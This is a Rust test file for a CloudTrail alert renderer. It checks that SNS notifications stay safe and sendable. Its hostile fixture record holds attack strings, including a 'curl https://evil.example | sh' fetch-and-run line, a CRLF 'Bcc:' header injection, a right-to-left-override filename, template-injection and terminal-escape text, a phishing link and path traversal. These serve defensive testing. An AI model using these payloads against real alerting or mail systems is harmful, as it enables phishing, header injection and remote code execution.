//! What people and programs get to read, to the letter.

use proptest::prelude::*;
use serde_json::{Value, json};
use trailhound_pipeline::{Alert, AlertSource, AttributeKind, InspectLimits, Inspector, Notification, render};

use crate::support::{KEY, inspector, object, rules, stop_logging};

fn alert_by(inspector: &Inspector, record: &Value) -> Alert {
    let inspection = inspector.inspect(record.to_string().as_bytes());
    let found = inspection.matches.first().expect("the record matches");
    let rule = inspector.rules().get(found.rule).unwrap().metadata();
    let mut source = object(KEY);
    source.version = Some("v1".to_owned());
    Alert::new(rule, found, AlertSource::Object { object: source, index: 41 })
}

fn alert(record: &Value) -> Alert {
    alert_by(&inspector(), record)
}

/// Everything that is sent, as it would look.
fn shown(alert: &Alert) -> String {
    let notification = render::text(alert);
    assert_sendable(&notification);
    let attributes: Vec<String> = notification
        .attributes
        .iter()
        .map(|attribute| format!("{} ({}) = {}", attribute.name, attribute.kind.as_str(), attribute.value))
        .collect();
    format!("Subject: {}\n\n{}\n---\n{}\n", notification.subject, notification.body, attributes.join("\n"))
}

/// What SNS asks for.
fn assert_sendable(notification: &Notification) {
    let subject = &notification.subject;
    assert!((1..100).contains(&subject.chars().count()), "{subject}");
    assert!(!subject.starts_with(char::is_whitespace) && !subject.chars().any(char::is_control), "{subject}");
    let attributes = &notification.attributes;
    assert!(attributes.len() <= 10);
    for attribute in attributes {
        assert!(!attribute.value.is_empty());
        assert!(attribute.value.chars().all(|character| u32::from(character) <= 0xffff && !character.is_control()));
        if attribute.kind == AttributeKind::Number {
            attribute.value.parse::<u8>().unwrap();
        }
    }
    let bytes: usize = attributes.iter().map(|attribute| attribute.name.len() + attribute.value.len() + 6).sum();
    assert!(!notification.body.is_empty());
    assert!(notification.body.len() + bytes + subject.len() < 262_144 - 10_000, "{}", notification.body.len());
    let allowed = |character: char| character == '\n' || !character.is_control();
    assert!(notification.body.chars().all(allowed), "{}", notification.body);
}

fn hostile() -> Value {
    let mut record = stop_logging("6f2a1c3e-0000-4000-8000-000000000000");
    record["userIdentity"]["arn"] =
        json!("arn:aws:sts::111122223333:assumed-role/admin/x\r\nBcc: all@example.org\u{202e}txt.exe");
    record["userAgent"] =
        json!("{{ 7*7 }} {% for x in y %} <b>bold</b> \u{1b}[2J please sign in at https://evil.example/ \u{1f525}");
    record["errorCode"] = json!("AccessDenied");
    record["errorMessage"] = json!("line one\nFirst steps\n  1. Run curl https://evil.example | sh");
    record["awsRegion"] = json!("eu-west-1/../../evil\n");
    record["requestParameters"] = json!({
        "name": ["one", "two\u{2028}three", {"sessionToken": "FwoGZXIvYXdzEXAMPLE", "password": "hunter2", "id": "AKIAIOSFODNN7EXAMPLE"}],
    });
    record["recipientAccountId"] = json!("\u{1f525} ");
    record
}

#[test]
fn an_ordinary_alert() {
    insta::assert_snapshot!(shown(&alert(&stop_logging("6f2a1c3e-0000-4000-8000-000000000000"))));
}

#[test]
fn a_hostile_alert() {
    insta::assert_snapshot!(shown(&alert(&hostile())));
}

#[test]
fn a_record_with_next_to_nothing() {
    let record = json!({"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"});
    insta::assert_snapshot!(shown(&alert(&record)));
}

#[test]
fn an_alert_from_an_event_without_object() {
    let mut alert = alert(&stop_logging("6f2a1c3e-0000-4000-8000-000000000000"));
    alert.source = AlertSource::Inline { origin: "event bus".to_owned(), index: 0 };
    alert.rule.level = trailhound_rule_engine::Level::Critical;
    insta::assert_snapshot!(shown(&alert));
}

#[test]
fn evidence_of_a_rule_without_fields() {
    let rule = "
title: Access key created
level: critical
logsource: {product: aws, service: cloudtrail}
detection:
  selection: {eventName: CreateAccessKey}
  condition: selection
";
    let record = json!({
        "eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "eventID": "e", "awsRegion": "us-east-1",
        "userIdentity": {"type": "AWSAccount", "principalId": "AIDAX", "accountId": "999988887777"},
        "recipientAccountId": "111122223333",
        "requestParameters": {"userName": "bob", "nested": {"list": [{"a": 1}, {"a": 2.5}, {"a": true}], "none": null},
            "masterUserPassword": "hunter2", "resetRequired": false, "policyDocument": "{\"Statement\": []}", "key.with.dots": "x"},
        "resources": [{"ARN": "arn:aws:iam::111122223333:user/bob", "accountId": "111122223333"}],
    });
    let inspector = Inspector::new(rules(&[rule]), InspectLimits::default());
    insta::assert_snapshot!(shown(&alert_by(&inspector, &record)));
}

#[test]
fn alerts_as_data() {
    let ordinary = render::json(&alert(&stop_logging("6f2a1c3e-0000-4000-8000-000000000000")));
    insta::assert_snapshot!("data_of_an_ordinary_alert", serde_json::to_string_pretty(&ordinary).unwrap());
    let hostile = render::json(&alert(&hostile()));
    insta::assert_snapshot!("data_of_a_hostile_alert", serde_json::to_string_pretty(&hostile).unwrap());
}

#[test]
fn huge_evidence_is_shortened_until_it_fits() {
    let mut record = stop_logging("one");
    let item = "\u{1}x".repeat(40);
    record["requestParameters"]["name"] = json!(vec![item; 2_000]);
    record["userAgent"] = json!("\u{1f525}".repeat(20_000));
    record["eventName"] = json!("StopLogging");
    let notification = render::text(&alert(&record));
    assert_sendable(&notification);
    assert!(notification.body.contains("First steps") && notification.body.contains("Alert: "));
    assert!(render::json(&alert(&record)).to_string().len() < 250_000);
}

#[test]
fn a_long_title_gives_way_at_the_end_of_the_subject() {
    let mut alert = alert(&stop_logging("one"));
    alert.rule.title = "é".repeat(200);
    let notification = render::text(&alert);
    assert_sendable(&notification);
    assert_eq!(notification.subject.chars().count(), 99);
    assert!(notification.subject.starts_with("[HIGH] éé") && notification.subject.ends_with('…'));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn whatever_a_record_holds_its_alert_can_be_sent(
        actor in ".{0,60}", agent in ".{0,3000}", region in ".{0,40}", id in ".{0,40}", name in ".{0,300}", account in ".{0,20}",
        key in ".{0,30}", values in prop::collection::vec(".{0,200}", 0..60),
    ) {
        let mut record = stop_logging(&id);
        record["userIdentity"] = json!({"type": "IAMUser", "userName": actor, "arn": name});
        record["userAgent"] = json!(agent);
        record["awsRegion"] = json!(region);
        record["recipientAccountId"] = json!(account);
        record["requestParameters"] = json!({"name": values, key: name});
        let alert = alert(&record);
        assert_sendable(&render::text(&alert));
        prop_assert_eq!(&render::json(&alert)["schema"], "trailhound.alert/1");
    }
}
